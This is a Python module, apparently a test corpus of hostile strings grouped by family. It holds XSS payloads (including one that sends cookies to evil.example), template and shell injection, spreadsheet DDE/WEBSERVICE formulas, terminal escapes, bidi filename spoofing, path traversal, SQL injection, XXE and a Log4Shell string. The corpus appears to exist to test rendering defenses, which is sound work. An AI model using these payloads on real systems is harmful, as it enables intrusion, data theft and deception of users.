"""Texts that attack whoever reads them: a browser, a terminal, a spreadsheet, a template, a database, or the eye.

FAMILIES are what a text tries, CORPUS all texts in order, each once. What a text does when it succeeds is always seen: a dialog
opens, a request leaves, an element or an attribute stands in the page that none of ours has, or a letter that nobody sees.
"""

from __future__ import annotations

EVIL = "evil.example"
_CALL = "alert(document.domain)"

_ELEMENTS = (
    f"<script>{_CALL}</script>", f"<ScRiPt >{_CALL}</sCrIpT>", f"<script src=//{EVIL}/x.js></script>", f"<script>{_CALL}//",
    f"<script/x>{_CALL}</script\n>", f"<<script>{_CALL}//<</script>",
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    f"<script type=module>{_CALL}</script>", f"<script type=text/vbscript>MsgBox 1</script><script>{_CALL}</script>",
    f"<svg><script>{_CALL}</script></svg>", f"<svg><script href=data:,{_CALL}></script>",
    f"<math><mtext><script>{_CALL}</script>",
    f"<iframe src=javascript:{_CALL}></iframe>", f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<iframe src=http://{EVIL}/></iframe>", f"<frameset onload={_CALL}>", f"<object data=javascript:{_CALL}>",
    f"<object data=http://{EVIL}/x.swf></object>", f"<embed src=javascript:{_CALL}>", f"<embed src=http://{EVIL}/x.pdf>",
    f"<base href=http://{EVIL}/>", f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
    f"<meta http-equiv=refresh content=0;javascript:{_CALL}>", f"<link rel=stylesheet href=http://{EVIL}/x.css>",
    f"<link rel=prefetch href=http://{EVIL}/p>", f"<link rel=dns-prefetch href=//{EVIL}>",
    f"<form action=http://{EVIL}/><input type=submit>",
    f"<form><button formaction=javascript:{_CALL}>x</button></form>", f"<img src=http://{EVIL}/pixel.gif>",
    f"<img srcset='http://{EVIL}/1.gif 1x'>", f"<picture><source srcset=http://{EVIL}/a></picture>",
    f"<video poster=http://{EVIL}/p.png></video>", f"<audio src=http://{EVIL}/a.mp3 autoplay>",
    f"<input type=image src=http://{EVIL}/i>",
    f"<style>@import 'http://{EVIL}/s.css';</style>", "<style>*{display:none!important}</style>",
    f"<style>body{{background:url(http://{EVIL}/b)}}</style>", f"<div style=\"background:url('http://{EVIL}/d')\">x</div>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>You were logged out</div>", "<plaintext>", "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    f"<template><script>{_CALL}</script></template>", f"<portal src=http://{EVIL}/>", f"<a href=http://{EVIL}/>click</a>",
    f"<a href=javascript:{_CALL}>click</a>", f"<a href='&#106;avascript:{_CALL}'>click</a>",
    f"<a href=\"java\tscript:{_CALL}\">click</a>",
    f"<area href=http://{EVIL}/ shape=default>", f"<bgsound src=http://{EVIL}/s>", f"<marquee onstart={_CALL}>",
    f"<isindex action=javascript:{_CALL}>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_CALL}</x:script>", f"<?xml version='1.0'?><script>{_CALL}</script>",
    f"<![CDATA[<script>{_CALL}</script>]]>", f"<!--><script>{_CALL}</script>-->", f"<!-- --!><img src=x onerror={_CALL}>",
    f"<svg><animate attributeName=href values=javascript:{_CALL} /><a><text>x</text></a></svg>",
    f"<svg><use href='http://{EVIL}/u.svg#x'/></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_CALL}></iframe></foreignObject></svg>",
    f"<svg><image href=http://{EVIL}/i.png /></svg>",
    f"<svg><set onbegin={_CALL}>", f"<svg><style><img src=x onerror={_CALL}></style></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_CALL}>x",
    "<dialog open>You must pay</dialog>", "<details open ontoggle=alert(1)>x</details>", "<slot name=x></slot><x-evil></x-evil>",
    "<select><option>x</select><img src=x onerror=alert(1)>",
)
_HANDLERS = tuple(
    f"<{tag} {event}={_CALL}{more}>" for tag, event, more in (
        ("img src=x", "onerror", ""), ("img/src=x", "OnErRoR", ""), ("svg", "onload", ""), ("svg/onload=1", "onload", " "),
        ("body", "onload", ""),
        ("body", "onpageshow", ""), ("body", "onhashchange", ""), ("body", "onbeforeprint", ""), ("input autofocus", "onfocus",
        ""), ("select autofocus", "onfocus", "></select"),
        ("textarea autofocus", "onfocus", "></textarea"), ("button autofocus", "onfocus", ">x</button"),
        ("div tabindex=1 autofocus", "onfocus", ">x</div"),
        ("details open", "ontoggle", ""), ("video src=x", "onerror", ""), ("audio src=x", "onerror", ""), ("video><source",
        "onerror", ""),
        ("object data=x", "onerror", ""), ("iframe", "onload", ""), ("marquee", "onfinish", ""), ("a href=#", "onclick", ">x</a"),
        ("b", "onmouseover", ">hover</b"), ("p", "onpointerenter", ">hover</p"), ("div style=animation:x", "onanimationstart",
        ""),
        ("div style=transition:1s", "ontransitionend", ""), ("form", "onsubmit", "><input type=submit"), ("input", "oninput", ""),
        ("p", "oncopy", ">copy me</p"), ("x contenteditable", "onblur", ">x</x"), ("style", "onload", ""),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("script src=x", "onerror", "></script"), ("image src=x", "onerror", ""), ("img src=x:x", "onerror", "//"), ("x",
        "onscrollend", ">x</x")))
_BREAKERS = (
    "\"'><img src=x onerror=alert(3)>", "'><svg/onload=alert(3)>", "\" autofocus onfocus=alert(3) x=\"",
    "' onmouseover='alert(3)", "` onerror=alert(3) `",
    "</title><script>alert(4)</script>", "</textarea></pre><b>out</b>", "</script><script>alert(5)</script>",
    "</style><script>alert(5)</script>",
    "</bdi></td></tr></table><h1>Case closed</h1>", "</svg><img src=x onerror=alert(5)>",
    "</text></g></svg><script>alert(5)</script>", "</option></select><script>alert(5)</script>",
    "-->\"><script>alert(6)</script>", "]]><script>alert(6)</script>", "</body></html><script>alert(6)</script>",
    "</noscript><script>alert(6)</script>", "\"/><script>alert(6)</script>",
    "\\\"><script>alert(6)</script>", "\\u003cscript\\u003ealert(6)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(6)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(7)%3C/script%3E", "%253Cscript%253Ealert(7)%253C/script%253E", "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(7)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(7)&#62;", "&#x3C;img src=x onerror=alert(7)&#x3E;",
    "&#0000060script&#0000062alert(7)&#0000060/script&#0000062", "&lt", "&NotAnEntity;", "&bigstar;&Tab;&NewLine;&colon;",
    "\uff1cscript\uff1ealert(7)\uff1c/script\uff1e", "\u2039script\u203aalert(7)", "+ADw-script+AD4-alert(7)+ADw-/script+AD4-",
    "\xbcscript\xbealert(7)\xbc/script\xbe",
    "<\x00script>alert(7)</script>", "<scr\x00ipt>alert(7)</scr\x00ipt>", "<img src=x\x0conerror=alert(7)>",
    "<img\x0bsrc=x onerror=alert(7)>", "<\u0338script>alert(7)", "<a\u2028href=x>",
)
_ADDRESSES = (
    f"http://{EVIL}/phish", f"https://{EVIL}/a?b=c&d=e", f"HTTP://{EVIL.upper()}/", f"//{EVIL}/x", f"/\\{EVIL}/",
    f"\\\\{EVIL}\\share\\x.exe", f"ftp://{EVIL}/", f"file://{EVIL}/share",
    "file:///etc/passwd", "mailto:a@evil.example?subject=x", "tel:+1900", "javascript:alert(8)", "JaVaScRiPt:alert(8)",
    "java\nscript:alert(8)", "java\tscript:alert(8)", "\x01javascript:alert(8)", " javascript:alert(8)",
    "javascript://%0aalert(8)", "vbscript:msgbox(8)", "data:text/html,<script>alert(8)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(8)>",
    f"blob:http://{EVIL}/1", "view-source:about:blank", "about:blank", "chrome://settings", "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x", "intent://x#Intent;end", f"http://127.0.0.1@{EVIL}/", f"http://{EVIL}#@127.0.0.1/",
    "http://xn--80ak6aa92e.com/", "http://\u0430pple.com/", f"http://[::ffff:1.2.3.4]/{EVIL}", "http://1.2.3.4/",
    "http://0x7f000001/", "?_sort=time", "#fragment", "case/-/findings", "..", ".", "/", "//", "~2F", "%2e%2e%2f",
)
_TEMPLATES = (
    "{{ 7*7 }}{% raw %}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}",
    "{# comment #}", "{%- endblock -%}", "{{ request|attr('app') }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "<% system('id') %>", "[[7*7]]", "{{constructor.constructor('alert(9)')()}}", "*{7*7}", "@(7*7)", "{0}{1.__globals__}",
    "%(name)s%s%n%x", "$(id)", "`id`", "|id", ";id;", "&&id", "$IFS", "!{7*7}", "{{{raw}}}", "__import__('os').system('id')",
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\ufeff=", "\u200b=", "\uff1d", "\uff0b", "'=", '"=')
_CELLS = tuple(start + rest for start in _STARTS for rest in ("1+1", f'HYPERLINK("http://{EVIL}/","x")'))
_FORMULAS = (
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example/\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1-1", "-2+3", "a;=1+1",
    "a,\"=1+1\"", "a\"\n=5+5", "%0A=1+1",
)
_CONTROLS = tuple(f"esc{chr(code)}[31mcontrol {code:02x}" for code in (*range(1, 32), *range(127, 160)))
_TERMINALS = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07", "\x1b]52;c;ZXZpbA==\x07", f"\x1b]8;;http://{EVIL}\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\", "\x9b31mred", "\x9d0;title\x9c", "\x08\x08\x08back\x7f", "\x1b[6n\x1b[c", "\x1b[?1049h", "\x1b#8",
    "\x1bc",
    "progress\rdone       ", "line one\nline two", "one\r\ntwo", "one\x0btwo\x0cthree\x85four", "bell\x07bell",
)
_SIGNS = tuple(f"name{chr(code)}gnp.exe \\u{code:04x}" for code in (
    0xAD, 0x34F, 0x61C, 0x115F, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C,
    0x202D, 0x202E, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x206F, 0x3164, 0xFE0F,
    0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xE0001, 0xE0041, 0xE007F, 0x1D173, 0xE000, 0x10FFFF))
_UNSEEN = (
    "invoice\u202egnp.exe", "\u202e\u202e\u202ereversed whole line", "\u2066\u2067\u2068never closed", "a\u2069\u202cb popped",
    "\u05e9\u05dc\u05d5\u05dd.exe", "\u0645\u0631\u062d\u0628\u0627 /etc/\u0645\u0644\u0641.txt",
    "\u200frtl \u05d0\u05d1\u05d2 123.txt",
    "\u202eexe.txt\u202d", "zero\u200bwidth\u200b\u200b\u200b", "\u2800\u2800\u2800", "\u3000\u00a0\u2003spaces\u2009", "   ",
    "\t", "\n", "\u200b", "\u202e",
)
_LETTERS = (
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f"
    + "a\u0300\u0301\u0302\u0303\u0304" * 40 + "lgo",
    "e\u0301 \u00e9", "\ufb01le \u017f \u212a \u0130 \u0131", "c:\\w\u0456ndows\\syst\u0435m32", "\u0391\u0412\u0421",
    "\uff43\uff4d\uff44\uff0e\uff45\uff58\uff45",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466.exe", "\U0001f1e9\U0001f1ea\U0001f1eb",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\u2764\ufe0f\ufe0f", "\U0001f600" * 200,
    "\U00010ffff", "\ufdfd" * 20, "\u12031", "\U00012031" * 60,
    "\ud800", "lone\ud800high", "lone\udc9blow", "\udcff\udc9b", "swapped\udc00\ud800", "\ud83d\ude00 pair", "nul\x00here",
    "\x00", "\x00\x00\x00", "\uffff\ufffe", "\u0000\u202e\ud800",
)
_LONG = (
    "x" * 1_000, "M" * 65_536, "<b>" * 21_000, "\U0001f600" * 16_384, "\u202e" * 4_000, "A\u0300" * 30_000, "a/" * 32_768,
    "a\\" * 32_768, "&lt;" * 16_384, "=" * 5_000, "\n" * 5_000, " " * 5_000, "word " * 13_000, "%n" * 3_000, "{" * 3_000,
    "[" * 3_000, "\x1b[31m" * 3_000,
)
_PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\system32\\config\\sam", "C:\\..\\..\\x", "\\\\?\\C:\\x",
    "\\\\.\\PhysicalDrive0", "C:\\a\\.\\b\\..\\c", "/proc/self/environ", "/dev/null", "CON", "NUL.txt", "aux.db", "COM1",
    "a:b:$DATA", "file.txt::$DATA",
    "trailing.", "trailing ", " leading", "a\\slash~2Fx", "C:\\PROGRA~1\\x", "C:/mixed\\slashes/x", "c:", "~", "~root/.ssh",
    "-rf", "--help", "@file", "*?[a-z]", "a|b>c<d", "a'b\"c`d", "%SYSTEMROOT%\\x", "$HOME/x", "#1?.db", "50%.db", "case.db.json",
    "page.json", "a.csv", "1,2", "~2E~2E", "-/databases",
)
_STATEMENTS = (
    "'; DROP TABLE events; --", "', (SELECT 1)) --", "1 OR 1=1", "x' UNION SELECT sql FROM sqlite_master --",
    "\"; ATTACH 'x.db' AS y; --", "VACUUM INTO 'x.db'", "PRAGMA writable_schema=1", "load_extension('x')",
    "randomblob(1000000000)", "/* */ --", "\\'; --", "%' ESCAPE '!", "[events]", "\"events\"",
    "AND", "NEAR(a b, 3)", "a* OR b", "^a", "\"unclosed", "(unclosed", "col:x", "NULL", "None", "null", "true", "NaN",
    "undefined", "0", "-0", "1e309", "0x1f", "01", "9223372036854775808", "2026-02-30T25:61:61Z", "__proto__", "constructor",
    "toString", "hasOwnProperty",
)
_STYLES = (
    "expression(alert(10))", "url(javascript:alert(10))", "</style>", "x;background:url(http://evil.example/)",
    "red;}*{display:none", "\\65\\78pression(1)", "@import url(http://evil.example/)", "--x:url(http://evil.example/)",
    "content:attr(x)", "var(--bad)", "-moz-binding:url(http://evil.example/)", "behavior:url(x.htc)", "animation:x", "\\000022",
)
_REPORTS = (
    "![x](http://evil.example/p.png)", "[click](javascript:alert(11))", "# heading\n* list", "| a | b |",
    "```html\n<script>alert(11)</script>\n```", "\\write18{id}", "$$\\input{/etc/passwd}$$", ".. include:: /etc/passwd",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<!ENTITY lol \"lol\">", "%PDF-1.7 /JS (app.alert(1))", "{\\rtf1 x}", "BEGIN:VCARD", "X-Header: y\r\nSet-Cookie: a=b",
    "a\r\n\r\n<script>alert(11)</script>", "${jndi:ldap://evil.example/a}", "() { :; }; id", "O:8:\"stdClass\":0:{}",
    "!!python/object/apply:os.system [id]", "!#/bin/sh", "\u0000\u0001PK",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "elements": _ELEMENTS, "handlers": _HANDLERS, "breakers": _BREAKERS, "addresses": _ADDRESSES, "templates": _TEMPLATES,
    "formulas": (*_CELLS, *_FORMULAS), "terminals": (*_CONTROLS, *_TERMINALS), "unseen": (*_SIGNS, *_UNSEEN), "letters": _LETTERS,
    "long": _LONG, "paths": _PATHS, "statements": _STATEMENTS, "styles": _STYLES, "reports": _REPORTS,
}
CORPUS: tuple[str, ...] = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
